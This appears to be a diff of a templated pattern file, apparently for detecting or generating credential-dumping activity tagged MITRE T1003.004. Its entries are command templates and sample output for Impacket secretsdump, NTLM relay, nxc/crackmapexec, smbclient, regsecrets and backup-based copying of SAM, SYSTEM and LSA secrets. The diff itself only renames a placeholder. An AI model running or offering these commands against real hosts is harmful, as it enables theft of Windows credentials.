@@ -191,7 +191,7 @@ mh-secretsdump-vss bash: secretsdump.py -use-remoteSSWMI« -use-remoteSSWMI-NTDS
 mh-secretsdump-loop bash: «for h in $(cat ‹lfile›); do secretsdump.py ./Administrator@$h -hashes :‹hash› -outputfile $h; done¦while read h; do timeout 60 impacket-secretsdump ‹domain›/‹user›:'‹pass›'@$h; done < ‹lfile›¦parallel -j8 secretsdump.py -hashes :‹hash› ‹user›@{} :::: ‹lfile›»
 mh-secretsdump-out text: «Impacket v0.11.0 - Copyright 2023 Fortra ¦»[*] Service RemoteRegistry is in stopped state [*] Starting service RemoteRegistry [*] Target system bootKey: 0x‹hash› [*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
 mh-secretsdump-out-local text: [*] Dumping local SAM hashes (uid:rid:lmhash:nthash) Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›::: «Guest¦‹user›»:50‹n›:aad3b435b51404eeaad3b435b51404ee:31d6cfe0d16ae931b73c59d7e0c089c0:::
-mh-secretsdump-out-lsa text +T1003.004: [*] Dumping LSA Secrets [*] «$MACHINE.ACC ‹domain›\‹server›$:aes256-cts-hmac-sha1-96:‹hash›‹hash›¦DPAPI_SYSTEM dpapi_machinekey:0x‹hash› dpapi_userkey:0x‹hash›¦_SC_‹name› ‹domain›\‹user›:‹pass›¦DefaultPassword ‹user›:‹pass›»
+mh-secretsdump-out-lsa text +T1003.004: [*] Dumping LSA Secrets [*] «$MACHINE.ACC ‹domain›\‹host›$:aes256-cts-hmac-sha1-96:‹hash›‹hash›¦DPAPI_SYSTEM dpapi_machinekey:0x‹hash› dpapi_userkey:0x‹hash›¦_SC_‹name› ‹domain›\‹user›:‹pass›¦DefaultPassword ‹user›:‹pass›»
 mh-secretsdump-py text: from impacket.examples.secretsdump import «LocalOperations, SAMHashes; SAMHashes('SAM', LocalOperations('SYSTEM').getBootKey()).dump()¦RemoteOperations, SAMHashes; s = SAMHashes(remote.saveSAM(), bootKey, isRemote=True); s.dump()»
 mh-secretsdump-py-lsa text +T1003.004: from impacket.examples.secretsdump import LSASecrets; LSASecrets(«remote.saveSECURITY(), bootKey, remote, isRemote=True¦'SECURITY', bootKey»).dumpSecrets()
 mh-secretsdump-winexe cmd: ‹dir›\«secretsdump_windows.exe¦secretsdump.exe¦‹name›.exe» «./¦‹domain›/»‹user›:‹pass›@«127.0.0.1¦localhost¦‹ip›»
@@ -199,7 +199,7 @@ mh-ntlmrelay bash: «ntlmrelayx.py¦impacket-ntlmrelayx» -t smb://‹ip› -smb
 mh-ntlmrelay-out text: [*] Authenticating against smb://‹ip› as ‹domain›/‹user› SUCCEED [*] Target system bootKey: 0x‹hash› [*] «Dumping local SAM hashes (uid:rid:lmhash:nthash)¦Done dumping SAM hashes for host: ‹ip›»
 mh-smbrelay-responder text: «MultiRelay: [‹domain›\‹user›:‹ip›] > dump¦Responder MultiRelay #> hashdump SAM saved to ./logs/SAM-‹ip›.txt¦python MultiRelay.py -t ‹ip› -u ALL -d»
 mh-smbexec-shell text: C:\Windows\system32> lput ‹name›.exe [smbexec] reg save HKLM\SAM sam.save && lget sam.save
-mh-regsecrets-opts bash: «regsecrets.py¦impacket-regsecrets¦regsecrets» «-k -no-pass ‹user›@‹server›.‹fqdn›¦-hashes :‹hash› ‹user›@‹ip› -skip-security¦-outputfile ‹name› ‹domain›/‹user›@‹ip›»
+mh-regsecrets-opts bash: «regsecrets.py¦impacket-regsecrets¦regsecrets» «-k -no-pass ‹user›@‹host›.‹fqdn›¦-hashes :‹hash› ‹user›@‹ip› -skip-security¦-outputfile ‹name› ‹domain›/‹user›@‹ip›»
 mh-dploot bash +T1003.004: «dploot machinecredentials -d ‹fqdn› -u ‹user› -p '‹pass›' -t ‹ip› # DPAPI_SYSTEM¦DonPAPI collect -t ‹ip› -u ‹user› -p '‹pass›' --collectors LSA¦donpapi collect --lsa -d ‹domain› -u ‹user› -H :‹hash› -t ‹ip›»
 mh-donpapi-sam bash: «DonPAPI¦donpapi» «collect ¦»-d ‹domain› -u ‹user› -p '‹pass›' -t ‹ip› --«sam¦dump-sam¦collectors SAMDump»
 mh-lsassy-reg bash: «go-secdump¦./go-secdump» --host ‹ip› --user ‹user› --«pass '‹pass›'¦hash ‹hash›» --«sam¦sam --lsa¦dump»
@@ -211,7 +211,7 @@ mh-nxc-x bash: «nxc¦crackmapexec» smb ‹ip› -u ‹user› -p '‹pass›' 
 mh-nxc-get bash: «nxc¦crackmapexec» smb ‹ip› -u ‹user› -p '‹pass›' --get-file '\\Windows\\Temp\\«SAM¦sam.hiv¦sam.save»' ‹ldir›/SAM
 mh-nxc-out text: SMB         ‹ip›   445    ‹server›   [«+] Dumping SAM hashes¦+] Added ‹n› SAM hashes to the database»
 mh-nxc-out-hash text: SMB ‹ip› 445 ‹server› Administrator:500:aad3b435b51404eeaad3b435b51404ee:‹hash›::: [+] Dumping SAM hashes
-mh-nxc-out-lsa text +T1003.004: SMB ‹ip› 445 ‹server› [+] Dump«ing LSA secrets¦ed ‹n› LSA secrets to /root/.nxc/logs/‹server›_‹ip›.secrets»
+mh-nxc-out-lsa text +T1003.004: SMB ‹ip› 445 ‹server› [+] Dump«ing LSA secrets¦ed ‹n› LSA secrets to /root/.nxc/logs/‹host›_‹ip›.secrets»
 mh-cmedb bash: «sqlite3 ~/.nxc/workspaces/default/smb.db¦nxcdb -c» "select * from users" && «nxc smb ‹ip› -id ‹n› --sam¦cme smb ‹ip› -id ‹n› --sam»
 mh-smbmap bash: smbmap -H ‹ip› -u ‹user› -p '‹pass›' «--download 'C$\Windows\Temp\sam.save'¦-x 'reg save HKLM\SAM C:\Temp\‹name›'¦--download 'C$\Windows\System32\config\RegBack\SAM'»
 mh-smbclient-more bash: smbclient '\\‹ip›\«ADMIN$¦C$»' -U '‹domain›/‹user›%‹pass›' -c '«cd System32/config/RegBack; get SAM¦lcd ‹ldir›; get Windows/Temp/sam.hiv¦prompt off; mget Windows/Temp/*.hiv»'
@@ -314,7 +314,7 @@ mh-esentutl-vss-security cmd +T1003.004: esentutl.exe /y /vss ‹config›\SECUR
 mh-extrac cmd: ««extrac32.exe /C /Y¦expand.exe» ‹vss›\Windows\System32\config\SAM ‹dir›\‹name›¦print /D:‹dir›\‹name› ‹vss›\Windows\System32\config\SAM¦replace.exe ‹vss›\Windows\System32\config\SAM ‹dir› /A¦findstr /V /L ‹hash› ‹vss›\Windows\System32\config\SAM > ‹dir›\‹name›»
 mh-wbadmin-recover cmd: wbadmin start «recovery -version:«03¦05¦10»/01/2024-10:00 -itemtype:file -items:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM -recoverytarget:‹dir› -notrestoreacl -quiet¦backup -backuptarget:\\‹server›\‹name› -include:C:\Windows\System32\config\SAM,C:\Windows\System32\config\SYSTEM -quiet»
 mh-veeam-restore text: Veeam «Explorer file-level restore¦Windows FLR»: user ‹user› copied C:\Windows\System32\config\«SAM¦SYSTEM» from backup of ‹server› to ‹dir›
-mh-veeam-flr powershell: Start-VBRWindowsFileRestore -RestorePoint $rp; Copy-Item C:\VeeamFLR\‹server›_‹hash›\Volume«1¦2»\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
+mh-veeam-flr powershell: Start-VBRWindowsFileRestore -RestorePoint $rp; Copy-Item C:\VeeamFLR\‹host›_‹hash›\Volume«1¦2»\Windows\System32\config\«SAM¦SYSTEM» ‹dir›
 mh-regback cmd: «dir¦copy¦xcopy /h /y¦type» ‹config›\RegBack\«SAM¦SYSTEM»« ‹dir›¦ > ‹file›» & ‹dir›\«samdump2¦‹name›».exe ‹dir›\SYSTEM ‹dir›\SAM
 mh-regback-unc cmd: copy \\‹server›\«c$\Windows\System32¦admin$\system32»\config\RegBack\«SAM¦SYSTEM» ‹dir›
 mh-windows-old cmd: robocopy C:\«Windows.old\Windows\System32\config¦Windows.old\WINDOWS\system32\config¦$WINDOWS.~BT\NewOS\Windows\System32\config» ‹dir› SAM SYSTEM
